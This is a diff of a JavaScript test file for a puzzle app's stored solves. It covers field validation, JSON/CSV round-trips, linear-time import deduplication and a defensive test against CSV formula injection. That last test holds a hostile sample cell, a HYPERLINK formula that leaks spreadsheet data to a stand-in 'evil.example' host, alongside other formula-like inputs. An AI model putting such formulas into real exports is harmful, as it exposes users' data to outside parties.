@@ -1,8 +1,9 @@
 // Kept solves: what is not a solve is named and set aside, the rest kept; an export read
-// back gives the same solves, as JSON and as CSV; a bad file is refused naming its line.
+// back gives the same solves, as JSON and as CSV, and holds no formula; a bad file is
+// refused naming its line; an import adds what is new in linear time.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { merge, parseExport, parseStore, problem, readSolves, storeText, toCsv } from '../../www/features/stats/solves.js';
+import { identity, newcomers, parseExport, parseStore, problem, storeText, toCsv } from '../../www/features/stats/solves.js';
 
 /** @type {import('../../www/features/stats/solves.js').Solve} */
 const EIGHT = {
@@ -31,18 +32,20 @@ const NINE = {
   gaps: [0, 5, 7],
 };
 
-/** A Storage over a Map. */
-function storage(entries = {}) {
-  const kept = new Map(Object.entries(entries));
-  return { kept, store: /** @type {Storage} */ (/** @type {unknown} */ ({ getItem: (k) => kept.get(k) ?? null, setItem: (k, v) => kept.set(k, v) })) };
-}
-
 test('a solve is checked field by field', () => {
   assert.equal(problem(EIGHT), '');
   assert.equal(problem(NINE), '');
   assert.equal(problem({ ...EIGHT, moves: 0 }), 'moves 0 is not a whole number from 1');
   assert.equal(problem({ ...EIGHT, millis: -5 }), 'millis -5 is not a whole number from 0');
-  assert.equal(problem({ ...EIGHT, date: 'yesterday' }), 'date "yesterday" is not a date');
+  const notDate = 'is not a date and time as 2026-11-28T09:30:00.000Z';
+  assert.equal(problem({ ...EIGHT, date: 'yesterday' }), `date "yesterday" ${notDate}`);
+  // what Date.parse takes but the page never writes: leading text, a year beyond 9999,
+  // a day that is not one
+  assert.equal(problem({ ...EIGHT, date: '=HYPERLINK("x") 2026-01-01' }), `date "=HYPERLINK(\\"x\\") 20... ${notDate}`);
+  assert.equal(problem({ ...EIGHT, date: '+275760-09-13T00:00:00.000Z' }), `date "+275760-09-13T00:00:... ${notDate}`);
+  assert.equal(problem({ ...EIGHT, date: '2026-02-30T00:00:00.000Z' }), `date "2026-02-30T00:00:00.... ${notDate}`);
+  assert.equal(problem({ ...EIGHT, level: '-2-3' }), 'level "-2-3" is not a level');
+  assert.equal(problem({ ...EIGHT, puzzle: '@sum' }), 'puzzle "@sum" is not a puzzle’s name');
   assert.equal(problem({ ...EIGHT, gaps: [0, 1] }), 'gaps has 2 times for 3 moves');
   assert.equal(problem({ ...EIGHT, moves: 4 }), 'path has 3 moves, fewer than its 4 moves');
   assert.equal(problem({ ...EIGHT, moves: 2, path: ['r'], gaps: [0] }), 'path has 1 move, fewer than its 2 moves');
@@ -53,15 +56,10 @@ test('a solve is checked field by field', () => {
   assert.equal(problem([EIGHT]), 'is not a solve');
 });
 
-test('a corrupt store keeps its good solves and sets its text aside', () => {
+test('a corrupt store of an earlier version keeps its good solves, the rest counted', () => {
   const text = JSON.stringify({ version: 1, solves: [EIGHT, { ...EIGHT, moves: 'many' }, NINE] });
   assert.deepEqual(parseStore(text), { solves: [EIGHT, NINE], unreadable: 1 });
   assert.deepEqual(parseStore('{"version": 1, "solves": [').unreadable, 1);
-  const { kept, store } = storage({ 'puzzle-playground:solves': text });
-  assert.deepEqual(readSolves(store), { solves: [EIGHT, NINE], unreadable: 1 });
-  assert.equal(kept.get('puzzle-playground:solves-unreadable'), text, 'nothing lost');
-  assert.equal(kept.get('puzzle-playground:solves'), storeText([EIGHT, NINE]));
-  assert.deepEqual(readSolves(store), { solves: [EIGHT, NINE], unreadable: 0 }, 'written back clean');
 });
 
 test('JSON out and back in gives the same solves', async () => {
@@ -104,7 +102,33 @@ test('a bad file is refused, naming the solve or the line and the field', async 
   assert.match(/** @type {any} */ (await parseExport('{"solves": [')).error, /^The file is not JSON: /);
 });
 
-test('an import adds only the solves not kept, in the order they were solved', () => {
+test('an import adds only the solves not kept, each once', () => {
   const earlier = { ...EIGHT, date: '2026-11-24T09:00:00.000Z' };
-  assert.deepEqual(merge([EIGHT, NINE], [NINE, earlier, earlier]), { solves: [earlier, EIGHT, NINE], added: 1, already: 2 });
+  assert.deepEqual(newcomers([EIGHT, NINE], [NINE, earlier, earlier]), { added: [earlier], already: 2 });
+  // a solve is its puzzle, level, date, time and moves: another path is the same solve
+  assert.equal(identity({ ...EIGHT, path: ['r', 'l', 'r'] }), identity(EIGHT));
+  assert.notEqual(identity({ ...EIGHT, millis: 4_521 }), identity(EIGHT));
+});
+
+test('an import of 100,000 solves finds the new ones in linear time', () => {
+  const many = Array.from({ length: 100_000 }, (_, i) => ({ ...EIGHT, millis: i }));
+  const started = performance.now();
+  const { added, already } = newcomers(many.slice(0, 50_000), many);
+  assert.equal(added.length, 50_000);
+  assert.equal(already, 50_000);
+  // the quadratic merge took minutes here; this is a loop over both lists
+  assert.ok(performance.now() - started < 5_000, `${Math.round(performance.now() - started)} ms`);
+});
+
+test('no cell of a CSV export is read as a formula, and each reads back as it was', async () => {
+  const hostile = { ...EIGHT, start: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', goal: '@SUM(1)', path: ['-l', 'r', 'r'] };
+  const csv = await toCsv([hostile]);
+  const cells = csv.split('\n')[1];
+  assert.equal(
+    cells,
+    `eight,any,2026-11-25T10:00:00.000Z,4520,3,2,2,false,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","'@SUM(1)","'-l r r",0 1200 3320`,
+  );
+  // the quote is the export's: the cells read back as they were
+  const read = /** @type {any} */ (await parseExport(csv));
+  assert.deepEqual(read.solves?.[0], hostile);
 });
